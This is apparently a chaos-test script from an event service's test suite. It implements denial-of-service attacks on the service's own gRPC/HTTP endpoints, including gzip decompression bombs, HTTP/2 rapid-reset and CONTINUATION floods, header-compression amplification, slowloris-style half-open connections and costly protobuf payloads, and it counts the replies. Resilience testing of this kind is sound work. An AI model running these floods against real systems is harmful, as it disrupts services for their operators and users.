"""Attacks of hostile clients, each in a separate process.

    python attacks.py NAME SECONDS GRPC HTTP WEBHOOK_ID KEY [TOKEN]

An attack runs for that many seconds and prints the count of each reply as JSON.
"""

import asyncio
import contextlib
import gzip
import itertools
import json
import random
import re
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from google.protobuf import json_format
from google.protobuf.struct_pb2 import Struct

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from bench.http2 import frame, header_blocks, message_frame
from event_service._gen.spaceone.api.monitoring.v1 import event_pb2
from tests.chaos.scale import scaled

MIB = 1024 * 1024
LARGEST_MESSAGE = 16 * MIB
EVENT = "/spaceone.api.monitoring.v1.Event"
CREATE, LIST = f"{EVENT}/create", f"{EVENT}/list"
EVENTS = "/event_service.v1.Events"
CREATE_BATCH = "/event_service.v1.Ingest/CreateBatch"

DATA, HEADERS, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 5, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)


@dataclass
class Target:
    """Whom to attack, until when (monotonic), and what came of it."""

    grpc: tuple[str, int]
    http: tuple[str, int]
    webhook: tuple[str, str]
    until: float
    token: str = ""
    answers: Counter[str] = field(default_factory=Counter)

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until


Attack = Callable[[Target], None]
ATTACKS: dict[str, Attack] = {}
"""All but `noise`, which is no attack by itself, and queries."""

QUERIES: dict[str, Attack] = {}
"""Those of a caller who may read."""

HOGS: dict[str, Attack] = {}
"""Those of a tenant that takes all it can get, with a token and a webhook of its own."""


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def query_attack(function: Attack) -> Attack:
    QUERIES[function.__name__] = function
    return function


def hog(function: Attack) -> Attack:
    HOGS[function.__name__] = function
    return function


def connect(address: tuple[str, int]) -> socket.socket:
    connection = socket.create_connection(address, 10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def http2(target: Target) -> socket.socket:
    """A connection that has begun well. Headers come back compressed without a memory, so that each is spelt out."""
    connection = connect(target.grpc)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HIHI", 1, 0, 4, 2**31 - 1)))
    return connection


def heads(target: Target, path: str = CREATE, **metadata: str) -> tuple[bytes, bytes]:
    authority = f"{target.grpc[0]}:{target.grpc[1]}"
    if target.token:
        metadata["token"] = target.token
    return header_blocks(authority, path, {name.replace("_", "-"): value for name, value in metadata.items()})


def cut_off(connection: socket.socket, seconds: float) -> bool:
    """Return True if the server closes the connection within that time."""
    connection.settimeout(seconds)
    try:
        while connection.recv(65_536):
            pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def length_delimited(number: int, value: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(value)) + value


def create_message(target: Target, struct_wire: bytes) -> bytes:
    """A CreateEventRequest around a serialised Struct."""
    webhook_id, access_key = (text.encode() for text in target.webhook)
    return length_delimited(1, webhook_id) + length_delimited(2, access_key) + length_delimited(3, struct_wire)


EVENT_KEY = length_delimited(1, b"event_key") + length_delimited(2, length_delimited(3, b"one"))
"""A member of a Struct."""


def many_keys(count: int) -> bytes:
    """A serialised Struct of an event with that many keys in additional_info."""
    none = b"\x08\x00"
    keys = b"".join(
        length_delimited(1, length_delimited(1, f"key {number}".encode()) + length_delimited(2, none))
        for number in range(count)
    )
    info = length_delimited(2, length_delimited(5, keys))
    return length_delimited(1, EVENT_KEY) + length_delimited(1, length_delimited(1, b"additional_info") + info)


class Stream:
    """Make a call on a raw connection within the server's windows; return its status."""

    def __init__(self, connection: socket.socket, number: int = 1) -> None:
        self.connection = connection
        self.number = number
        self.windows = {0: 65_535, number: 65_535}
        self.first_window = 65_535
        self.trailers = b""
        self.ended = False
        self._buffer = b""

    def send(self, head: bytes, body: bytes) -> bytes:
        """Return the bytes of the trailers; b"" where the connection ended without any."""
        with contextlib.suppress(OSError):
            self.connection.sendall(frame(HEADERS, END_HEADERS, self.number, head))
            position = 0
            while position < len(body) and not self.ended:
                room = min(16_384, len(body) - position, *self.windows.values())
                if room <= 0:
                    self.read()
                    continue
                last = position + room == len(body)
                piece = body[position : position + room]
                self.connection.sendall(frame(DATA, END_STREAM if last else 0, self.number, piece))
                position += room
                for name in self.windows:
                    self.windows[name] -= room
            while not self.ended:
                self.read()
        return self.trailers

    def read(self) -> None:
        data = self.connection.recv(65_536)
        if not data:
            self.ended = True
            return
        self._buffer += data
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                return
            kind, flags = self._buffer[3], self._buffer[4]
            number = int.from_bytes(self._buffer[5:9], "big")
            payload, self._buffer = self._buffer[9 : 9 + length], self._buffer[9 + length :]
            self._take(kind, flags, number, payload)

    def _take(self, kind: int, flags: int, number: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE and number in self.windows:
            self.windows[number] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            self.connection.sendall(frame(SETTINGS, ACK, 0))
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:
                    self.windows[self.number] += value - self.first_window
                    self.first_window = value
        elif kind == PING and not flags & ACK:
            self.connection.sendall(frame(PING, ACK, 0, payload))
        elif kind == HEADERS and number == self.number:
            self.trailers += payload
            self.ended = bool(flags & END_STREAM)
        elif kind in (RST_STREAM, GOAWAY):
            self.trailers = self.trailers or f"{kind}".encode() + payload
            self.ended = True


def status_of(trailers: bytes) -> str:
    """Return the number of grpc-status, or the bytes received instead."""
    found = re.search(rb"grpc-status[\x01\x02](\d+)", trailers)
    return found[1].decode() if found else repr(trailers[:60])


def call(target: Target, body: bytes, path: str = CREATE, **metadata: str) -> str:
    """Return the grpc-status of one call, sent by hand."""
    with http2(target) as connection:
        return status_of(Stream(connection).send(heads(target, path, **metadata)[0], body))


def at_once(clients: int, work: Callable[[], None]) -> None:
    """Run the same in that many threads."""
    with ThreadPoolExecutor(clients) as threads:
        for result in [threads.submit(work) for _ in range(clients)]:
            result.result()


def four_at_once(target: Target, ask: Callable[[], str]) -> None:
    """Ask in four threads, each without pause."""

    def go_on() -> None:
        while target.goes_on:
            target.answers[ask()] += 1

    at_once(4, go_on)


@attack
def too_large(target: Target) -> None:
    """Messages of one byte more than is allowed."""
    message = create_message(target, b"")
    message += length_delimited(15, bytes(LARGEST_MESSAGE + 1 - len(message) - 5))
    assert len(message) == LARGEST_MESSAGE + 1
    while target.goes_on:
        target.answers[call(target, message_frame(message))] += 1


@attack
def compressed_bomb(target: Target) -> None:
    """256 MiB of nothing in 256 KiB, as gRPC's own compression has it."""
    bomb = gzip.compress(bytes(256 * MIB), 6)
    body = b"\1" + struct.pack(">I", len(bomb)) + bomb
    while target.goes_on:
        target.answers[call(target, body, grpc_encoding="gzip")] += 1


@attack
def resets(target: Target) -> None:
    """Send and reset a thousand calls a second."""
    body = message_frame(create_message(target, b""))
    while target.goes_on:
        with http2(target) as connection, contextlib.suppress(OSError):
            first, other = heads(target)
            for number in range(1, 2001, 2):
                if not target.goes_on:
                    break
                head = frame(HEADERS, END_HEADERS, number, first if number == 1 else other)
                data = frame(DATA, END_STREAM, number, body)
                connection.sendall(head + data + frame(RST_STREAM, 0, number, CANCEL))
                target.answers["reset"] += 1
                time.sleep(0.001)


FLOODS: dict[str, Callable[[Target], bytes]] = {
    "bytes": lambda _: random.Random(1).randbytes(16_384),
    "frame types": lambda _: b"".join(frame(kind, 0xFF, kind, b"x" * 8) for kind in range(256)),
    "frames that are too long": lambda _: b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(16_384),
    "settings": lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500,
    "pings": lambda _: frame(PING, 0, 0, bytes(8)) * 500,
    "windows": lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 500,
    "empty data": lambda target: frame(HEADERS, END_HEADERS, 1, heads(target)[0]) + frame(DATA, 0, 1) * 500,
    "messages that are none": lambda target: (
        frame(HEADERS, END_HEADERS, 1, heads(target)[0])
        + frame(DATA, END_STREAM, 1, b"\x07\xff\xff\xff\xff" + bytes(1000))
    ),
    "pushes": lambda _: frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2)) * 500,
}


@attack
def headers_without_end(target: Target) -> None:
    """A head that goes on and on. gRPC's library holds all of it until the connection ends; see SECURITY.md."""
    with http2(target) as connection, contextlib.suppress(OSError):
        connection.sendall(frame(HEADERS, 0, 1, heads(target)[0]))
        for _ in range(100):
            connection.sendall(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 1000))
    target.answers["cut off"] += 1
    while target.goes_on:
        time.sleep(0.1)


@attack
def headers_named_again(target: Target) -> None:
    """16 MB of headers in 8 KB: one large header, and four thousand times its name. The library unpacks all of it."""
    block = heads(target, large="x" * 4000)[0] + b"\xbe" * 4000
    while target.goes_on:
        with http2(target) as connection, contextlib.suppress(OSError):
            connection.sendall(frame(HEADERS, END_HEADERS, 1, block))
            connection.settimeout(0.2)
            connection.recv(65_536)
        target.answers["answered"] += 1
        time.sleep(0.1)


@attack
def garbage(target: Target) -> None:
    """Send invalid HTTP/2 fifty times a second."""
    while target.goes_on:
        for name, flood in FLOODS.items():
            with http2(target) as connection, contextlib.suppress(OSError):
                connection.sendall(flood(target))
                connection.settimeout(0.02)
                while connection.recv(65_536):
                    pass
            target.answers[name] += 1
        for address in (target.grpc, target.http):
            with connect(address) as connection, contextlib.suppress(OSError):
                connection.sendall(random.randbytes(4096))
            target.answers["no preface"] += 1


def held_open(target: Target, address: tuple[str, int], openings: list[bytes], more: bytes = b"") -> None:
    """500 connections that begin with one of the openings, and then say `more`, now and then, or nothing."""
    with contextlib.ExitStack() as stack:
        connections = []
        for number in range(500):
            connection = stack.enter_context(connect(address))
            connection.sendall(openings[number % len(openings)])
            connections.append(connection)
        while target.goes_on:
            time.sleep(0.1)
            for connection in connections if more else []:
                with contextlib.suppress(OSError):
                    connection.sendall(more)
        for connection in connections:
            connection.setblocking(False)
            try:
                target.answers["answered" if connection.recv(65_536) else "closed"] += 1
            except BlockingIOError:
                target.answers["open"] += 1
            except OSError:
                target.answers["closed"] += 1


@attack
def half_open_grpc(target: Target) -> None:
    """Connections without a preface, with half of one, and with a call that has begun."""
    begun = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, heads(target)[0])
    held_open(target, target.grpc, [b"", PREFACE[:10], PREFACE, begun])


@attack
def half_open_http(target: Target) -> None:
    """Connections without a request, with half a line, and with half a head."""
    held_open(target, target.http, [b"", b"POST /monit", b"GET /healthz HTTP/1.1\r\nHost: h\r\nX-"])


@attack
def slow_messages(target: Target) -> None:
    """gRPC messages said to have 16 MB that arrive a kilobyte at a time."""
    opening = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, heads(target)[0])
    opening += frame(DATA, 0, 1, b"\0" + struct.pack(">I", LARGEST_MESSAGE - 1) + bytes(16_000))
    held_open(target, target.grpc, [opening], frame(DATA, 0, 1, bytes(1024)))


@attack
def slow_bodies(target: Target) -> None:
    """HTTP bodies said to have 16 MB that arrive a kilobyte at a time."""
    path = f"/monitoring/v1/webhook/{target.webhook[0]}/{target.webhook[1]}/events"
    head = f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Length: {LARGEST_MESSAGE}\r\n\r\n".encode()
    held_open(target, target.http, [head + b"[" * 16_000], b" " * 1024)


def post(target: Target, body: bytes, *headers: str, path: str = "") -> str:
    """Return the status of one request over HTTP; by default a delivery."""
    path = path or f"/monitoring/v1/webhook/{target.webhook[0]}/{target.webhook[1]}/events"
    head = [f"POST {path} HTTP/1.1", "Host: h", f"Content-Length: {len(body)}", "Connection: close", *headers]
    with connect(target.http) as connection, contextlib.suppress(OSError):
        connection.sendall("\r\n".join([*head, "", ""]).encode() + body)
        return connection.recv(65_536).split(b" ")[1].decode()
    return "cut off"


@attack
def http_bomb(target: Target) -> None:
    """256 MiB of nothing in 256 KiB, as HTTP's compression has it."""
    bomb = gzip.compress(bytes(256 * MIB), 6)
    while target.goes_on:
        target.answers[post(target, bomb, "Content-Encoding: gzip")] += 1


@attack
def hundred_thousand_keys(target: Target) -> None:
    """Events that are large and allowed."""
    body = message_frame(create_message(target, many_keys(100_000)))
    while target.goes_on:
        target.answers[call(target, body)] += 1


@attack
def hundred_thousand_keys_http(target: Target) -> None:
    body = json.dumps({"event_key": "many keys", "additional_info": {f"key {n}": None for n in range(100_000)}})
    while target.goes_on:
        target.answers[post(target, body.encode())] += 1


TINY_FIELDS = b"\x0a\x00" * (15_500_000 // 2)
"""Members of any Struct or list, or results of any reply: 15.5 MB that take up to 1.5 GB once parsed."""


@attack
def unauthenticated_fields(target: Target) -> None:
    """Creates of an invalid key whose payloads are expensive to parse."""
    webhook_id = length_delimited(1, target.webhook[0].encode())
    body = message_frame(webhook_id + length_delimited(3, TINY_FIELDS) + length_delimited(2, b"wrong"))
    four_at_once(target, lambda: call(target, body))


@attack
def unauthenticated_batches(target: Target) -> None:
    credentials = length_delimited(1, target.webhook[0].encode()) + length_delimited(2, b"wrong")
    body = message_frame(credentials + length_delimited(3, length_delimited(1, TINY_FIELDS)))
    four_at_once(target, lambda: call(target, body, CREATE_BATCH))


@attack
def unauthenticated_json_batches(target: Target) -> None:
    members = ",".join(f'"{n}":{{}}' for n in range(900_000))
    body = f'{{"webhook_id":"{target.webhook[0]}","access_key":"wrong","payloads":[{{"data":{{{members}}}}}]}}'.encode()
    four_at_once(target, lambda: post(target, body, path="/event_service/v1/ingest/create-batch"))


@attack
def large_queries(target: Target) -> None:
    """Lists with more values than any query needs."""
    values = length_delimited(1, length_delimited(1, b"k") + length_delimited(2, TINY_FIELDS))
    body = message_frame(length_delimited(1, values))
    four_at_once(target, lambda: call(target, body, LIST))


@attack
def plugin_answers(target: Target) -> None:
    """Deliveries to a webhook whose remote plugin answers with TINY_FIELDS."""
    body = message_frame(create_message(target, length_delimited(1, EVENT_KEY)))
    four_at_once(target, lambda: call(target, body))


def ask(target: Target, method: str, *queries: Mapping[str, Any]) -> None:
    """Send these queries one after another without a pause."""
    kind = {"list": event_pb2.EventQuery, "stat": event_pb2.EventStatQuery}[method]
    bodies = [message_frame(json_format.ParseDict({"query": query}, kind()).SerializeToString()) for query in queries]
    while target.goes_on:
        for body in bodies:
            target.answers[call(target, body, f"{EVENT}/{method}")] += 1


ALL_RAW_DATA = {"aggregate": [{"project": {"fields": [{"k": "raw_data", "n": "r"}]}}]}
ALL_IN_ONE_ROW = {"aggregate": [{"group": {"fields": [{"k": "raw_data", "n": "r", "o": "push"}]}}]}


@query_attack
def large_stat(target: Target) -> None:
    """Statistics with the payloads of all events, as rows and as one row."""
    ask(target, "stat", ALL_RAW_DATA, ALL_IN_ONE_ROW)


@query_attack
def three_large_stats(target: Target) -> None:
    """The same from three clients."""
    at_once(3, lambda: ask(target, "stat", ALL_RAW_DATA))


def one_of(values: int) -> dict[str, Any]:
    """A filter by that many values."""
    keys = [f"a key that no event has, {number:060}" for number in range(values)]
    return {"filter": [{"k": "event_key", "o": "in", "v": keys}]}


@query_attack
def large_filter(target: Target) -> None:
    """Filters by more values than are allowed, in 9 MB, and by as many as are allowed."""
    ask(target, "list", one_of(100_000), one_of(9_000))


@query_attack
def large_only(target: Target) -> None:
    """Lists of more paths than are allowed, in 2 MB and below 1 MiB, and of as many as are allowed."""
    paths = [f"raw_data.a path that no event has, {number}" for number in range(40_000)]
    ask(target, "list", {"only": paths}, {"only": paths[:9_000]}, {"only": paths[:1_000], "page": {"limit": 1}})


@hog
def slow_queries(target: Target) -> None:
    """Twice as many statistics at once as there are threads to read; no two are equal."""

    def go_on() -> None:
        while target.goes_on:
            keys = [{"k": "title", "n": f"r{random.random()}"}, {"k": "description", "n": "d"}]
            stages = [{"group": {"keys": keys}}, {"group": {"fields": [{"n": "count", "o": "count"}]}}]
            query = json_format.ParseDict({"query": {"aggregate": stages}}, event_pb2.EventStatQuery())
            target.answers[call(target, message_frame(query.SerializeToString()), f"{EVENT}/stat")] += 1

    at_once(16, go_on)


def held_streams(target: Target, path: str, count: int) -> None:
    """Open that many streams that are not read, until the end; those that end are opened again a second later."""
    first, other = heads(target, path)
    body, number = message_frame(b""), 1
    with http2(target) as connection:
        connection.settimeout(0.1)
        while target.goes_on:
            for _ in range(count):
                head = frame(HEADERS, END_HEADERS, number, first if number == 1 else other)
                connection.sendall(head + frame(DATA, END_STREAM, number, body))
                number += 2
            until = time.monotonic() + 1
            while target.goes_on and time.monotonic() < until:
                with contextlib.suppress(TimeoutError):
                    # Frames are read and forgotten, but no window is ever opened.
                    connection.recv(65_536)
            target.answers["opened"] += count
            count = 4


@hog
def unread_exports(target: Target) -> None:
    """More exports than a domain may have, of more than HTTP/2 admits unread."""
    held_streams(target, f"{EVENTS}/Export", 40)


@hog
def many_watches(target: Target) -> None:
    """More watches than a domain may have."""
    held_streams(target, f"{EVENTS}/Watch", 300)


HOG_EVENTS = scaled(2_500, 9_900)  # a delivery may have 10,000


@hog
def large_deliveries(target: Target) -> None:
    """Deliveries of very many events, from four senders without pause."""
    names = itertools.count()

    def deliver() -> str:
        alert = {"status": "firing", "annotations": {"summary": "x" * 100}}
        alerts = [{**alert, "labels": {"alertname": f"alert-{next(names)}"}} for _ in range(HOG_EVENTS)]
        payload = Struct()
        payload.update({"version": "4", "status": "firing", "groupKey": "{}", "alerts": alerts})
        return call(target, message_frame(create_message(target, payload.SerializeToString())))

    four_at_once(target, deliver)


NOISE_RATE = 400  # deliveries a second


def noise(target: Target) -> None:
    """Deliveries that are all in order, but too many, however long the answers take."""
    first, other = heads(target)
    body = message_frame(create_message(target, length_delimited(1, EVENT_KEY)))
    began, sent, buffer = time.monotonic(), 0, b""
    with http2(target) as connection:
        connection.settimeout(0.001)
        while target.goes_on or sum(target.answers.values()) < sent:
            while target.goes_on and sent < (time.monotonic() - began) * NOISE_RATE:
                head = frame(HEADERS, END_HEADERS, 2 * sent + 1, other if sent else first)
                connection.sendall(head + frame(DATA, END_STREAM, 2 * sent + 1, body))
                sent += 1
            with contextlib.suppress(TimeoutError):
                buffer += connection.recv(65_536)
            while len(buffer) >= 9 and len(buffer) >= (end := 9 + int.from_bytes(buffer[:3], "big")):
                kind, flags, payload, buffer = buffer[3], buffer[4], buffer[9:end], buffer[end:]
                if kind in (SETTINGS, PING) and not flags & ACK:
                    connection.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
                elif kind == HEADERS and flags & END_STREAM:
                    target.answers[status_of(payload)] += 1


async def run(
    name: str, seconds: float, grpc: str, http: str, webhook: tuple[str, str], token: str = ""
) -> Counter[str]:
    """Run an attack in a process of its own; how often it had which answer.

    Args:
        grpc, http: HOST:PORT of the service.
        token: of the attacker; "" = none.
    """
    process = await asyncio.create_subprocess_exec(
        sys.executable, __file__, name, str(seconds), grpc, http, *webhook, token, stdout=asyncio.subprocess.PIPE
    )
    output, _ = await process.communicate()
    assert process.returncode == 0, name
    return Counter(json.loads(output))


def main() -> None:
    name, seconds, grpc, http, webhook_id, access_key, *token = sys.argv[1:]
    addresses = [(host, int(port)) for host, _, port in (grpc.rpartition(":"), http.rpartition(":"))]
    target = Target(addresses[0], addresses[1], (webhook_id, access_key), time.monotonic() + float(seconds), *token)
    (noise if name == "noise" else (ATTACKS | QUERIES | HOGS)[name])(target)
    print(json.dumps(target.answers))


if __name__ == "__main__":
    main()
